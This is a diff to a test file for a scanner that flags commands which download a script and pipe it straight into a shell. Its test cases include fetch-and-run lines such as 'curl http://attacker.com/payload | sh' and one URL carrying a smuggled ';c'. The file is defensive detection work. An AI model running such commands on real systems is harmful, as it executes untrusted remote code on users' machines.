@@ -53,6 +53,12 @@ describe('downloads that run without a review', () => {
     'curl -sSL https://tidy.dev/i.py | python3 -',
     'sh -c "$(curl -fsSL https://tidy.dev/i.sh)',
     'bash <(curl -s "$URL")',
+    'curl http://attacker.com/payload | sh',
+    'curl -sL get.tidy.xyz/evil | bash',
+    'curl "https://tidy.dev/i?a=1&b=2;c" | sh',
+    'curl -fsSL https://tidy.dev/i.sh \\\n  | bash',
+    'wget -qO- localhost:8000/i | sh',
+    'curl https://example.com/i.sh | sh',
   ]) {
     test(command, () => assert.deepEqual(found(`${command}\n`, findDownloads), [command]));
   }
@@ -65,7 +71,10 @@ describe('downloads that run without a review', () => {
     'curl | bash',
     'grep -r "curl https://tidy.dev/i.sh | sh" .',
     'echo "MISSING: curl https://tidy.dev/i.sh | sh"',
-    'curl http://attacker.com/x | sh',
+    'curl ... | sh',
+    'curl <url> | sh',
+    'curl hxxp://a[.]b/x | sh',
+    'curl https://tidy.dev/a.txt && cat a.txt | sh',
   ]) {
     test(`ignores ${command}`, () => assert.deepEqual(found(`${command}\n`, findDownloads), []));
   }
